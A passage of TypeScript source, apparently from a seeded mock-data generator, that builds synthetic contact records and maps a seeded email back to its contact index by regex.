  if (rng.chance(0.1)) attributes.socialProfiles = { twitter: `@${slug(first)}${index}` }
  if (world.oddities) {
    // Drift documents `externalId` as a string or a number, and both are seen.
    const odd = new Prng(hash(world.seed, S_ODDITIES, S_CONTACT, index))
    if (odd.chance(0.1)) attributes.externalId = 100_000 + odd.int(0, 899_999)
  }
  return { id: contactIdOf(world, index), createdAt, attributes }
}

/**
 * The seeded contact with this email (case-insensitive), or `undefined`. Seeded emails embed the contact
 * index, so the lookup is O(1).
 *
 * @since 0.1.0
 */
export const contactIndexByEmail = (world: World, email: string): number | undefined => {
  const match = /^[a-z]+\.[a-z]+(\d+)@/.exec(email.toLowerCase())
  if (match === null) return undefined
  const index = Number(match[1])
  if (!Number.isSafeInteger(index) || index >= world.contactCount) return undefined
  const seeded = contact(world, index).attributes.email
  return typeof seeded === "string" && seeded.toLowerCase() === email.toLowerCase() ? index : undefined
}
